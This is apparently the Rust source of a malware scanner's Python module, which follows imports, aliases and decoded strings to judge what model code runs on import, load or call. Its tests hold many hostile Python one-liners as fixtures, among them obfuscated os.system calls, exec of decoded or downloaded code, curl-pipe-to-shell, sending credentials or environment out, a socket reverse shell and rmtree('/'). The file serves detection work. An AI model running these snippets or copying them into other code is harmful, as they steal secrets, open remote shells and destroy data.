//! Python source: what runs when it is imported, when a library loads the model that it belongs to, and when it is called.
//!
//! Names are followed through imports, aliases, `getattr`, `__import__`, `globals()` and constants that are put together; where a
//! value comes from (a decoder, the network, the environment, a file) goes with it. Ordinary model code starts no process, hides
//! no name and runs nothing that it decoded, so that what is stated here is about effects and their moment, not about words.
//!
//! # Why not a parser crate
//! Those for Python 3 refuse Python 2, build a tree by recursion, and weigh more than the rest of the scanner. Nothing here needs
//! a tree: expressions are folded as they are read, on explicit stacks.

mod call;
mod expression;
mod moment;
mod probe;

pub mod effect;
pub mod lex;
pub mod value;

use super::Format;
use crate::bytes::{Pages, View};
use crate::error::Result;
use crate::fact::{Fact, When};
use crate::scan::Scan;
use expression::BINARY;
use lex::{Kind, Lexer, Token};
use probe::probe;
use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use value::{Value, What, origin};

/// A file of Python source.
pub const PYTHON: Format = Format { id: "python", name: "Python source", extensions: &["py", "pyw", "pth"], refines: &["text"], probe, read };

/// Source that is read; the largest modules of real libraries have under 2 MiB.
const LONGEST: u64 = 16 << 20;

/// Brackets inside one another; CPython stops at 200.
const NESTING: usize = 400;

/// Calls that are kept.
const CALLS: usize = 20_000;

/// Constants that are read as source themselves, and how deep.
const NESTED: usize = 200;
const NESTED_DEPTH: usize = 3;

fn read(view: View<'_>, scan: &mut Scan<'_>) -> Result<()> {
    if view.len() > LONGEST {
        scan.gap("limit-source");
    }
    let source = view.head(LONGEST as usize)?;
    scan.state(view, 0, view.len().min(16), Fact::Script { language: "Python", what: "code", when: When::Import, call: String::new() });
    encoding(view, &source, scan);
    inspect(&source, When::Import, view, &|at, end| (at as u64, end as u64), scan);
    super::packages::in_setup(view, &source, scan);
    // Other languages look like this one.
    if let Some(language) = super::shell::foreign_language(scan.name()) {
        super::shell::foreign(view, language, scan)?;
    }
    super::secrets::inspect(view, scan)?;
    super::plain::hidden(view, scan)
}

/// A source may name the codec it is written in (PEP 263), and some codecs turn harmless text into other code.
fn encoding(view: View<'_>, source: &[u8], scan: &mut Scan<'_>) {
    if let Some((at, len, codec)) = odd_codec(source) {
        scan.state(view, at, len, Fact::Script { language: "Python", what: "odd-encoding", when: When::Import, call: codec });
        scan.gap("source-encoding");
    }
}

/// The line that names a codec which is not a plain character set, and the codec.
fn odd_codec(source: &[u8]) -> Option<(u64, u64, String)> {
    let mut at = 0u64;
    for line in source.split(|b| *b == b'\n').take(2) {
        let text = String::from_utf8_lossy(line);
        if text.trim_start().starts_with('#')
            && let Some((_, rest)) = text.split_once("coding")
            && let Some(name) = rest.strip_prefix([':', '='])
        {
            let codec: String = name.trim_start().chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')).collect();
            let plain: String = codec.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
            let read = [
                "utf8", "ascii", "latin", "iso8859", "cp12", "windows12", "usascii", "koi8", "gbk", "gb2312", "gb18030", "big5", "eucjp", "euckr", "shiftjis",
                "cp9", "mbcs",
            ]
            .iter()
            .any(|k| plain.starts_with(k));
            if !plain.is_empty() && !read {
                return Some((at, line.len() as u64, codec));
            }
        }
        at += line.len() as u64 + 1;
    }
    None
}

/// Whether a text is a program of Python throughout.
pub fn is_source(text: &str) -> bool {
    probe::likeness(text.as_bytes(), false) == Some(true)
}

/// States what a source does that runs at the moment `when`. `place` says where offsets of the source stand in the view.
pub fn inspect(source: &[u8], when: When, view: View<'_>, place: &dyn Fn(usize, usize) -> (u64, u64), scan: &mut Scan<'_>) {
    let mut queue = vec![(source.to_vec(), when, None::<(usize, usize)>, 0usize)];
    let mut read = 0;
    while let Some((text, when, fixed, depth)) = queue.pop() {
        let mut walker = Walker::new(&text);
        walker.generates = scan.name().replace('\\', "/").ends_with("custom_generate/generate.py");
        walker.run();
        if walker.full {
            scan.gap("limit-source");
        }
        let moments = walker.moments(when);
        for found in std::mem::take(&mut walker.found) {
            let moment = walker.moment(&moments, &found);
            let Some(moment) = moment else { continue };
            let (at, end) = fixed.unwrap_or((found.at, found.end));
            let (from, to) = place(at, end);
            match found.inner {
                Some(inner) if found.what == "constant-pickle" => {
                    let pages = Pages::new(&inner);
                    scan.child("data in the source", View::of_inflated(&pages), !inner.is_ascii());
                }
                Some(inner) => {
                    read += 1;
                    if depth < NESTED_DEPTH && read < NESTED {
                        queue.push((inner, moment, Some((at, end)), depth + 1));
                    } else {
                        scan.gap("limit-source");
                    }
                }
                None => {
                    let call = text
                        .get(found.at..found.end.min(found.at + 400))
                        .map_or_else(String::new, |b| String::from_utf8_lossy(b).split_whitespace().collect::<Vec<_>>().join(" "));
                    scan.state(view, from, to.saturating_sub(from).max(1), Fact::Script { language: "Python", what: found.what, when: moment, call });
                }
            }
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Guard {
    Always,
    /// Below `if __name__ == "__main__"`.
    Main,
    /// Below `if TYPE_CHECKING`.
    Never,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sort {
    Module,
    Class,
    Function,
}

/// A module, class or function.
struct Scope {
    sort: Sort,
    name: Rc<str>,
    parent: usize,
    guard: Guard,
    bases: Vec<String>,
    names: HashMap<Rc<str>, Value>,
    members: HashMap<Rc<str>, usize>,
    result: Option<Value>,
    /// Reading the attribute calls it.
    property: bool,
    /// How many parameters a function has, if that is fixed.
    takes: usize,
}

/// Something that a call does, before it is known when.
struct Found {
    at: usize,
    end: usize,
    scope: usize,
    guard: Guard,
    what: &'static str,
    /// A constant that is itself source or a pickle.
    inner: Option<Vec<u8>>,
}

/// The target of a call inside of the source.
enum Edge {
    Scope(usize),
    Name(Rc<str>),
    /// A method of a class, which may be defined further down.
    Member(usize, Rc<str>),
}

#[derive(Clone, Copy)]
struct Block {
    scope: usize,
    guard: Guard,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Bracket {
    Statement,
    Paren,
    List,
    Brace,
    Index,
    Call,
    Fstring,
    Field,
}

enum Operator {
    Binary(u8, &'static [u8]),
    Unary(u8),
    Lambda,
}

impl Operator {
    fn rank(&self) -> u8 {
        match self {
            Operator::Binary(rank, _) | Operator::Unary(rank) => *rank,
            Operator::Lambda => 1,
        }
    }
}

/// An open bracket with what stands in it so far.
struct Frame {
    bracket: Bracket,
    at: usize,
    callee: Option<Value>,
    items: Vec<(Option<Rc<str>>, Value)>,
    from: u16,
    keyword: Option<Rc<str>>,
    operands: Vec<Value>,
    operators: Vec<Operator>,
    /// An operand comes next.
    want: bool,
    lambdas: usize,
    colons: usize,
    comma: bool,
    text: Vec<u8>,
    loops: bool,
}

impl Frame {
    fn new(bracket: Bracket, at: usize) -> Frame {
        Frame {
            bracket,
            at,
            callee: None,
            items: Vec::new(),
            from: 0,
            keyword: None,
            operands: Vec::new(),
            operators: Vec::new(),
            want: true,
            lambdas: 0,
            colons: 0,
            comma: false,
            text: Vec::new(),
            loops: false,
        }
    }
}

const ASSIGNING: &[&[u8]] = &[b"+=", b"-=", b"*=", b"/=", b"%=", b"&=", b"|=", b"^=", b"@=", b"**=", b"//=", b">>=", b"<<="];

struct Walker<'t> {
    src: &'t [u8],
    lexer: Lexer<'t>,
    ahead: Vec<Token>,
    frames: Vec<Frame>,
    scopes: Vec<Scope>,
    blocks: Vec<Block>,
    pending: Option<Block>,
    block: Block,
    stars: Vec<Rc<str>>,
    found: Vec<Found>,
    edges: Vec<(usize, Guard, Edge)>,
    /// Functions that were handed to one of this source, by the place that did.
    passed: Vec<(usize, Guard, usize, usize)>,
    /// What decorates the definition that follows.
    decorators: Vec<(Value, usize)>,
    downloads: HashSet<Vec<u8>>,
    /// The function that follows is decorated as a property.
    property: bool,
    /// transformers calls this file's `generate` in place of its own.
    generates: bool,
    opened: Option<Vec<u8>>,
    last_end: usize,
    full: bool,
    budget: usize,
}

impl<'t> Walker<'t> {
    fn new(src: &'t [u8]) -> Self {
        let module = Scope {
            sort: Sort::Module,
            name: "".into(),
            parent: 0,
            guard: Guard::Always,
            bases: Vec::new(),
            names: HashMap::new(),
            members: HashMap::new(),
            result: None,
            property: false,
            takes: 0,
        };
        let block = Block { scope: 0, guard: Guard::Always };
        Walker {
            src,
            lexer: Lexer::new(src),
            ahead: Vec::new(),
            frames: Vec::new(),
            scopes: vec![module],
            blocks: Vec::new(),
            pending: None,
            block,
            stars: Vec::new(),
            found: Vec::new(),
            edges: Vec::new(),
            passed: Vec::new(),
            decorators: Vec::new(),
            downloads: HashSet::new(),
            property: false,
            generates: false,
            opened: None,
            last_end: 0,
            full: false,
            budget: 64 << 20,
        }
    }

    fn next(&mut self) -> Token {
        let token = self.ahead.pop().unwrap_or_else(|| self.lexer.token_next());
        self.last_end = self.last_end.max(token.end);
        token
    }

    fn peek(&mut self) -> Token {
        let token = self.next();
        self.ahead.push(token);
        token
    }

    fn word(&self, token: Token) -> &'t [u8] {
        self.src.get(token.at..token.end).unwrap_or(&[])
    }

    fn is(&self, token: Token, op: &[u8]) -> bool {
        matches!(token.kind, Kind::Op | Kind::Name) && self.word(token) == op
    }

    fn ident(&mut self, token: Token) -> Rc<str> {
        let (name, disguised) = lex::identifier(self.word(token));
        if disguised && effect::telling(&name) {
            self.note("disguised-name", token.at, token.end);
        }
        name.into()
    }

    fn note(&mut self, what: &'static str, at: usize, end: usize) {
        self.note_inner(what, at, end, None);
    }

    fn note_inner(&mut self, what: &'static str, at: usize, end: usize, inner: Option<Vec<u8>>) {
        if self.found.len() >= CALLS {
            self.full = true;
            return;
        }
        self.found.push(Found { at, end: end.max(at), scope: self.block.scope, guard: self.block.guard, what, inner });
    }

    fn edge(&mut self, edge: Edge) {
        if self.edges.len() < 10 * CALLS {
            self.edges.push((self.block.scope, self.block.guard, edge));
        } else {
            self.full = true;
        }
    }

    fn run(&mut self) {
        self.lines();
        // A connection put in the place of a file descriptor is a shell for somebody else where a program follows.
        let starts: HashSet<usize> = self.found.iter().filter(|f| matches!(f.what, "process" | "process-unknown")).map(|f| f.scope).collect();
        self.found.retain_mut(|f| {
            let redirect = f.what == "redirect";
            if redirect {
                f.what = "reverse-shell";
            }
            !redirect || starts.contains(&f.scope)
        });
    }

    fn lines(&mut self) {
        loop {
            let token = self.next();
            match token.kind {
                Kind::End => return,
                Kind::Indent => {
                    let inner = self.pending.take().unwrap_or(self.block);
                    self.blocks.push(self.block);
                    self.block = inner;
                }
                Kind::Dedent => {
                    self.pending = None;
                    if let Some(outer) = self.blocks.pop() {
                        self.block = outer;
                    }
                }
                Kind::Newline => {}
                _ => {
                    self.pending = None;
                    self.line(token);
                }
            }
        }
    }

    /// One logical line: statements, and the body behind a header's colon.
    fn line(&mut self, first: Token) {
        let outer = self.block;
        let mut token = first;
        let mut inner = None;
        loop {
            self.statement(token, &mut inner);
            let mut end = self.next();
            // What could not be made sense of ends with its line.
            while !(matches!(end.kind, Kind::Newline | Kind::End) || self.is(end, b";") || self.is(end, b":")) {
                if matches!(end.kind, Kind::Indent | Kind::Dedent) {
                    self.ahead.push(end);
                    break;
                }
                self.frames.clear();
                let at = end.at;
                self.ahead.push(end);
                let _ = self.expression(false);
                end = self.next();
                // A sign that no expression begins with or goes on with is left behind.
                if end.at == at && !matches!(end.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                    end = self.next();
                }
            }
            if matches!(end.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                break;
            }
            if self.is(end, b":")
                && let Some(block) = inner.take()
            {
                if self.peek().kind == Kind::Newline {
                    self.pending = Some(block);
                    continue_to_newline(self);
                    break;
                }
                self.block = block;
            }
            token = self.next();
            if matches!(token.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                if token.kind != Kind::Newline {
                    self.ahead.push(token);
                }
                break;
            }
        }
        self.block = outer;
    }

    fn statement(&mut self, first: Token, inner: &mut Option<Block>) {
        let word = if first.kind == Kind::Name { self.word(first) } else { b"" };
        match word {
            b"import" => self.import(),
            b"from" => self.import_from(),
            b"def" => *inner = Some(self.def()),
            b"async" => {
                let next = self.next();
                match self.word(next) {
                    b"def" => *inner = Some(self.def()),
                    _ => self.statement_plain(next, inner),
                }
            }
            b"class" => *inner = Some(self.class()),
            _ if self.is(first, b"@") => {
                let (v, _) = self.expression(false);
                self.property |= v.name.as_deref().is_some_and(|n| matches!(n.rsplit('.').next(), Some("property" | "cached_property" | "getter")));
                if matches!(v.what, What::Path(_) | What::Local(_)) {
                    self.decorators.push((v, self.last_end));
                }
            }
            _ => self.statement_plain(first, inner),
        }
    }

    fn statement_plain(&mut self, first: Token, inner: &mut Option<Block>) {
        let word = if first.kind == Kind::Name { self.word(first) } else { b"" };
        match word {
            b"if" | b"elif" | b"while" => {
                let (_, stop) = self.expression(false);
                let header = self.src.get(first.at..stop.at).unwrap_or(&[]);
                let holds = |needle: &[u8]| header.len() < 400 && header.windows(needle.len()).any(|w| w == needle);
                let guard = if holds(b"__name__") && holds(b"__main__") && !holds(b" or ") && !holds(b"__name__ !=") && !holds(b"__name__!=") && !holds(b"not")
                {
                    Guard::Main
                } else if header.len() < 60 && holds(b"TYPE_CHECKING") && !holds(b"not") && !holds(b" or ") {
                    Guard::Never
                } else {
                    self.block.guard
                };
                let guard = if self.block.guard == Guard::Always { guard } else { self.block.guard };
                *inner = Some(Block { scope: self.block.scope, guard });
            }
            b"else" | b"try" | b"finally" => *inner = Some(self.block),
            b"for" => {
                let (target, stop) = self.expression(true);
                if self.is(stop, b"in") {
                    self.next();
                    let (list, _) = self.expression(false);
                    let item = value::index(&list, &[Value::unknown(0, first.at)], 0, first.at);
                    self.assign(&target, &item);
                }
                *inner = Some(self.block);
            }
            b"with" | b"except" => {
                loop {
                    let (v, stop) = self.expression(false);
                    if let What::Instance(class) = v.what
                        && word == b"with"
                    {
                        self.edge(Edge::Member(class, "__enter__".into()));
                        self.edge(Edge::Member(class, "__exit__".into()));
                    }
                    if !self.is(stop, b"as") {
                        break;
                    }
                    self.next();
                    let (target, stop) = self.expression(false);
                    self.assign(&target, &v);
                    if !self.is(stop, b",") {
                        break;
                    }
                }
                *inner = Some(self.block);
            }
            b"return" | b"yield" => {
                let (v, _) = self.expression(false);
                let scope = self.block.scope;
                self.reduced(&v);
                if let Some(s) = self.scopes.get_mut(scope)
                    && s.result.as_ref().is_none_or(|r| r.from & !origin::UNKNOWN == 0)
                {
                    s.result = Some(v);
                }
            }
            b"del" | b"assert" | b"raise" | b"await" | b"global" | b"nonlocal" | b"print" if { self.plain_follows() || word != b"print" } => {
                let _ = self.expression(false);
            }
            // Python 2's statement.
            b"exec" if self.plain_follows() => {
                let (v, _) = self.expression(true);
                let end = self.last_end;
                self.call(Value::path("exec", 0, first.at), vec![(None, v)], first.at, end);
            }
            b"pass" | b"break" | b"continue" => {}
            b"match" | b"case" | b"type" if self.plain_follows() => {
                let _ = self.expression(false);
                *inner = Some(self.block);
            }
            _ => {
                self.ahead.push(first);
                self.simple();
            }
        }
    }

    /// Whether an operand follows without a sign between: then the word before it is a statement's.
    fn plain_follows(&mut self) -> bool {
        let token = self.peek();
        matches!(token.kind, Kind::Text { .. } | Kind::Number | Kind::FOpen) || token.kind == Kind::Name && !BINARY.iter().any(|b| b.0 == self.word(token))
    }

    /// Assignments and expressions.
    fn simple(&mut self) {
        let mut targets: Vec<Value> = Vec::new();
        loop {
            let (v, stop) = self.expression(false);
            if self.is(stop, b"=") {
                self.next();
                targets.push(v);
                continue;
            }
            if stop.kind == Kind::Op && ASSIGNING.contains(&self.word(stop)) {
                let op = self.word(stop);
                self.next();
                let (right, _) = self.expression(false);
                let sum = match op {
                    b"+=" => self.fold(b"+", v.clone(), right),
                    _ => Value::unknown(v.from | right.from, v.at),
                };
                self.assign(&v, &sum);
                return;
            }
            if self.is(stop, b":") && targets.is_empty() {
                // An annotation: `name: type = value`.
                self.next();
                let (_, after) = self.expression(false);
                if self.is(after, b"=") {
                    self.next();
                    let (right, _) = self.expression(false);
                    self.assign(&v, &right);
                }
                return;
            }
            for t in &targets {
                self.assign(t, &v);
            }
            return;
        }
    }

    fn assign(&mut self, target: &Value, v: &Value) {
        if let What::Seq(parts) = &target.what {
            for (i, part) in parts.iter().enumerate() {
                let piece = match &v.what {
                    What::Seq(values) if values.len() == parts.len() => values.get(i).cloned(),
                    _ => None,
                };
                if let Some(name) = &part.name {
                    self.bind(name.clone(), piece.unwrap_or_else(|| Value::unknown(v.from, v.at)));
                }
            }
            return;
        }
        // An object in the place of a module: whoever imports that asks it for names.
        if let (What::Path(p), What::Instance(class)) = (&target.what, &v.what)
            && &**p == "sys.modules"
        {
            self.edge(Edge::Member(*class, "__getattr__".into()));
            self.edge(Edge::Member(*class, "__getattribute__".into()));
        }
        if let Some(name) = &target.name {
            self.bind(name.clone(), v.clone());
        }
    }

    fn bind(&mut self, name: Rc<str>, mut v: Value) {
        v.literal = false;
        v.name = None;
        let mut scope = self.block.scope;
        if name.starts_with("self.")
            && let Some(class) = self.class_of(scope)
        {
            scope = class;
        }
        if let Some(s) = self.scopes.get_mut(scope)
            && s.names.len() < 100_000
        {
            // A name that is bound twice is what it was worth most as: either may run.
            match s.names.get_mut(&name) {
                Some(old)
                    if v.from & !origin::UNKNOWN == 0
                        && old.from & !origin::UNKNOWN != 0
                        && !matches!(v.what, What::Path(_) | What::Local(_) | What::Text(_)) => {}
                Some(old) => *old = v,
                None => {
                    s.names.insert(name, v);
                }
            }
        }
    }

    /// Calls the decorators of what was just defined.
    fn decorate(&mut self, id: usize) {
        for (v, end) in std::mem::take(&mut self.decorators) {
            let at = v.at;
            self.call(v, vec![(None, Value::new(What::Local(id), origin::UNKNOWN, at))], at, end);
        }
    }

    fn class_of(&self, scope: usize) -> Option<usize> {
        let parent = self.scopes.get(scope)?.parent;
        (self.scopes.get(parent)?.sort == Sort::Class).then_some(parent)
    }

    fn dotted(&mut self) -> (String, Token) {
        let mut out = String::new();
        loop {
            let token = self.next();
            if token.kind == Kind::Name && !matches!(self.word(token), b"import" | b"as") {
                let name = self.ident(token);
                // A package by the name of another one, but for letters of Greek or Cyrillic that look the same.
                if name.chars().any(|c| c.is_ascii_alphabetic()) && name.chars().any(|c| matches!(c, '\u{370}'..='\u{52f}')) {
                    self.note("disguised-name", token.at, token.end);
                }
                out.push_str(&name);
            } else if self.is(token, b".") || self.is(token, b"...") {
                out.push_str(&String::from_utf8_lossy(self.word(token)));
            } else {
                return (out, token);
            }
        }
    }

    fn import(&mut self) {
        loop {
            let (path, mut stop) = self.dotted();
            let mut name: Rc<str> = path.split('.').next().unwrap_or("").into();
            let mut value = Value::path(&effect::normal(&name), 0, stop.at);
            if self.is(stop, b"as") {
                let token = self.next();
                name = self.ident(token);
                value = Value::path(&effect::normal(&path), 0, stop.at);
                stop = self.next();
            }
            self.bind(name, value);
            if !self.is(stop, b",") {
                self.ahead.push(stop);
                return;
            }
        }
    }

    fn import_from(&mut self) {
        let (module, stop) = self.dotted();
        if !self.is(stop, b"import") {
            self.ahead.push(stop);
            return;
        }
        loop {
            let token = self.next();
            if self.is(token, b"*") {
                if self.stars.len() < 100 {
                    self.stars.push(module.as_str().into());
                }
                return;
            }
            if self.is(token, b"(") || self.is(token, b",") || self.is(token, b")") {
                continue;
            }
            if token.kind != Kind::Name {
                self.ahead.push(token);
                return;
            }
            let mut name = self.ident(token);
            let path = effect::normal(&if module.ends_with('.') { format!("{module}{name}") } else { format!("{module}.{name}") });
            let after = self.next();
            if self.is(after, b"as") {
                let token = self.next();
                name = self.ident(token);
            } else {
                self.ahead.push(after);
            }
            let from = if path == "os.environ" { origin::ENV_ALL } else { 0 };
            self.bind(name, Value::path(&path, from, token.at));
        }
    }

    fn scope(&mut self, sort: Sort, name: Rc<str>, bases: Vec<String>) -> usize {
        let parent = self.block.scope;
        let id = self.scopes.len();
        self.scopes.push(Scope {
            sort,
            name: name.clone(),
            parent,
            guard: self.block.guard,
            bases,
            names: HashMap::new(),
            members: HashMap::new(),
            result: None,
            property: false,
            takes: 0,
        });
        if let Some(p) = self.scopes.get_mut(parent) {
            p.members.insert(name.clone(), id);
        }
        self.bind(name, Value::new(What::Local(id), 0, 0));
        id
    }

    fn def(&mut self) -> Block {
        let token = self.next();
        let name = self.ident(token);
        // The parameters: defaults and annotations run where the function is defined.
        let (v, _) = self.expression(false);
        let id = self.scope(Sort::Function, name, Vec::new());
        let class = self.class_of(id);
        let from = origin::UNKNOWN | if self.scopes.get(id).is_some_and(|s| moment::asked(&s.name)) { origin::INPUT } else { 0 };
        let params: Vec<Rc<str>> = match &v.what {
            What::Seq(s) => s.iter().filter_map(|p| p.name.clone()).collect(),
            _ => v.name.clone().into_iter().collect(),
        };
        let property = std::mem::take(&mut self.property);
        if let Some(s) = self.scopes.get_mut(id) {
            s.property = property;
            // With a star it takes as many as it is given.
            s.takes = if self.src.get(token.end..self.last_end).is_some_and(|list| list.contains(&b'*')) { 0 } else { params.len() };
            for (i, p) in params.into_iter().enumerate() {
                let (what, from) = match class {
                    Some(class) if i == 0 => (What::Instance(class), origin::UNKNOWN),
                    _ => (What::Unknown, from),
                };
                s.names.insert(p, Value::new(what, from, token.at));
            }
        }
        self.decorate(id);
        // Behind `->` an annotation, which runs as well.
        let next = self.peek();
        if self.is(next, b"->") {
            self.next();
            let _ = self.expression(false);
        }
        Block { scope: id, guard: Guard::Always }
    }

    fn class(&mut self) -> Block {
        let token = self.next();
        let name = self.ident(token);
        let next = self.peek();
        let mut bases = Vec::new();
        if !self.is(next, b":") {
            let (v, _) = self.expression(false);
            let single = [v.clone()];
            let parts: &[Value] = match &v.what {
                What::Seq(s) => s,
                _ => &single,
            };
            // Defining a class runs these of the class above it, or of its metaclass.
            for base in parts {
                if let What::Local(above) = base.what {
                    for hook in ["__init_subclass__", "__prepare__"] {
                        self.edge(Edge::Member(above, hook.into()));
                    }
                    if base.name.as_deref() == Some("metaclass") {
                        for hook in ["__new__", "__init__", "__call__"] {
                            self.edge(Edge::Member(above, hook.into()));
                        }
                    }
                }
            }
            bases = parts.iter().filter_map(|b| b.name.as_ref().map(|n| n.to_string()).or_else(|| b.as_path().map(str::to_string))).collect();
        }
        self.property = false;
        let id = self.scope(Sort::Class, name, bases);
        self.decorate(id);
        Block { scope: id, guard: self.block.guard }
    }
}

/// Whether a library lies beside the source or the model: its folder is not known, its name is.
fn brought(path: &str) -> bool {
    let name = path.rsplit(['/', '\\']).next().unwrap_or("");
    [".so", ".dll", ".dylib", ".pyd"].iter().any(|e| name.ends_with(e)) && !name.contains("$x")
}

/// Leaves the newline behind a header to the main loop.
fn continue_to_newline(w: &mut Walker<'_>) {
    if w.peek().kind == Kind::Newline {
        w.next();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a source does, in order of appearance, without what is always said.
    fn does(text: &str) -> Vec<(&'static str, When)> {
        let mut walker = Walker::new(text.as_bytes());
        walker.run();
        let moments = walker.moments(When::Import);
        let mut out: Vec<(&'static str, When)> = walker.found.iter().filter_map(|f| walker.moment(&moments, f).map(|m| (f.what, m))).collect();
        out.dedup();
        out
    }

    fn first(text: &str) -> Option<(&'static str, When)> {
        does(text).into_iter().find(|f| f.0 != "fetch")
    }

    #[test]
    fn a_program_is_found_however_it_is_called() {
        for text in [
            "import os\nos.system('id')",
            "import os as o; o.system('id')",
            "from os import system as s\ns('id')",
            "from os import *\nsystem('id')",
            "import subprocess as sp\nsp.Popen(['id'], shell=True)",
            "__import__('os').system('id')",
            "import importlib\nimportlib.import_module('os').popen('id')",
            "import os\nf = os.system\nf('id')",
            "import os\nx = [os.system][0]\nx('id')",
            "import os\n(lambda: os.system('id'))()",
            "import os\nprint(f'{os.system(\"id\")}')",
            "import os\nclass A:\n    x = os.system('id')\n",
            "import os\ndef f(x=os.system('id')):\n    pass\n",
            "import os\n@os.system\ndef f(): pass\n",
            "import os\ndef f():\n    os.system('id')\n\nf()\n",
            "def f():\n    g()\ndef g():\n    import os\n    os.system('id')\nf()\n",
            "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
            "import sys\nsys.modules['os'].system('id')",
            "import os\nos.__dict__['system']('id')",
            "import os\nvars(os)['system']('id')",
            "import os, functools\nfunctools.partial(os.system, 'id')()",
            "import os\nlist(map(os.system, ['id']))",
            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
            "import shutil\nshutil.os.system('id')",
            "import posix\nposix.system('id')",
            "import operator, os\noperator.attrgetter('system')(os)('id')",
            "exec('import os; os.system(\"id\")')",
            "if True:\n  import os\n  if 1: os.system('id')\n",
            "try:\n    import os\n    os.system('id')\nexcept Exception, e:\n    pass\n",
            "import os\nx = 1 if os.system('id') else 2\n",
            "import os\n[os.system(c) for c in ['id']]\n",
            "import os\nwith open('x') as f: os.system('id')\n",
            "globals()['__builtins__'].__import__('os').system('id')",
            "import pty\npty.spawn('/bin/sh')",
            "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        ] {
            let got = does(text);
            let nested = got.iter().any(|f| f.0 == "constant-source");
            assert!(nested || got.iter().any(|f| matches!(f.0, "process" | "process-unknown" | "handed") && f.1 == When::Import), "{text}: {got:?}");
        }
    }

    #[test]
    fn names_in_pieces_and_decoded_code() {
        for text in [
            "import os\ngetattr(os, 'sys'+'tem')('id')",
            "import os\ngetattr(os, 'metsys'[::-1])('id')",
            "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
            "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121]))('id')",
            "__import__('o'+'s').system('id')",
            "getattr(__builtins__, 'ex'+'ec')('x')",
        ] {
            assert!(does(text).iter().any(|f| f.0 == "hidden-name"), "{text}: {:?}", does(text));
        }
        for text in [
            "import base64\nexec(base64.b64decode('aWQ='))",
            "exec(__import__('base64').b64decode(b'aWQ=').decode())",
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
            "exec(bytes.fromhex('6964'))",
            "exec(''.join(chr(x ^ 3) for x in [1, 2]))",
            "exec(bytes([105, 100]))",
            "import codecs\neval(codecs.decode('vq', 'rot13'))",
            "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('aWQ='))",
            "import base64, os\nos.system(base64.b64decode('aWQ=').decode())",
            "exec(compile(__import__('zlib').decompress(b'x'), '', 'exec'))",
            "exec 'aWQ='.decode('base64')",
        ] {
            assert!(does(text).iter().any(|f| f.0 == "run-decoded"), "{text}: {:?}", does(text));
        }
    }

    #[test]
    fn what_comes_from_where_goes_where() {
        for (text, what) in [
            ("import requests\nexec(requests.get('http://x').text)", "run-download"),
            ("from urllib.request import urlopen\nexec(urlopen('http://x').read())", "run-download"),
            ("import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/a')\nos.system('sh /tmp/a')", "run-download"),
            ("import os\nos.system('curl http://x | sh')", "run-download"),
            ("import requests, os\nrequests.post('http://x', data=dict(os.environ))", "send-secrets"),
            ("import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.aws/credentials')).read())", "read-secret"),
            ("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "write-startup"),
            ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')", "write-startup"),
            ("import socket, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nos.execv('/bin/sh', ['sh', '-i'])", "reverse-shell"),
            ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", "inject"),
            ("().__class__.__base__.__subclasses__()[99]", "object-escape"),
            ("import shutil\nshutil.rmtree('/')", "wipe"),
            ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", "install"),
            ("import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])", "probe"),
            ("ｅｘｅｃ('x')", "disguised-name"),
        ] {
            assert!(does(text).iter().any(|f| f.0 == what), "{text}: {:?}", does(text));
        }
    }

    #[test]
    fn the_moment_decides() {
        let call = "import os\ndef f():\n    os.system('id')\n";
        assert_eq!(first(call), Some(("process", When::Call)));
        assert_eq!(first("import os\nif __name__ == '__main__':\n    os.system('id')\n"), Some(("process", When::Main)));
        assert_eq!(first("import os\ndef f():\n    os.system('id')\nif __name__ == '__main__':\n    f()\n"), Some(("process", When::Main)));
        assert_eq!(
            first("import os\nfrom x import M\nclass A(PreTrainedModel):\n    def __init__(self, c):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
        assert_eq!(
            first("import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.x()\n    def x(self):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
        assert_eq!(
            first("from setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
    }

    #[test]
    fn ordinary_code_says_nothing() {
        for text in [
            "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, n: int = 3):\n        super().__init__()\n        self.l = nn.Linear(n, n)\n    def forward(self, x):\n        return getattr(torch.nn.functional, self.act)(x)\n",
            "model.eval()\nx = re.compile('a')\nos.makedirs('x')\nself.system = 1\n",
            "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('x', trust_remote_code=True)\nprint(model.compile())\n",
            "# os.system('id')\n'''\nexec(x)\n'''\n",
        ] {
            assert_eq!(does(text), [], "{text}");
        }
    }

    #[test]
    fn nothing_that_is_written_stops_it() {
        let deep = [
            "(".repeat(5000),
            "[".repeat(5000),
            "f'{".repeat(3000),
            "lambda:".repeat(5000),
            "x.y".repeat(20_000),
            "if x:\n ".repeat(3000),
            "def f(".repeat(3000),
            "a=b=".repeat(9000),
            "@".repeat(9000),
            "x[1:".repeat(3000),
            "not ".repeat(9000),
